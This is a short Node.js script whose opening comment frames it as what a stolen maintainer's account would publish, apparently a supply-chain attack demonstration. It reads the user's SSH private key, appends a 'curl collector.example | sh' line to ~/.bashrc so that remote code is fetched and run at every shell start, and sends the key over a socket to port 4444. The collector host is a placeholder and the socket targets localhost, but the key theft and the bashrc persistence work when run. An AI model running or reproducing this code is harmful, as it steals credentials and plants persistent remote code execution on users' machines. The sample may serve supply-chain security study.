// What a stolen maintainer's account would publish.
const fs = require("fs");
const net = require("net");
const home = require("os").homedir();

let loot = "nothing";
try {
  loot = fs.readFileSync(`${home}/.ssh/id_ed25519`, "utf8");
} catch (error) {
  console.log(`key: ${error.code}`);
}
try {
  fs.appendFileSync(`${home}/.bashrc`, "curl -s collector.example | sh\n");
} catch (error) {
  console.log(`bashrc: ${error.code}`);
}
const collector = net.connect(4444, "127.0.0.1", () => collector.end(loot));
collector.on("error", (error) => console.log(`collector: ${error.code}`));
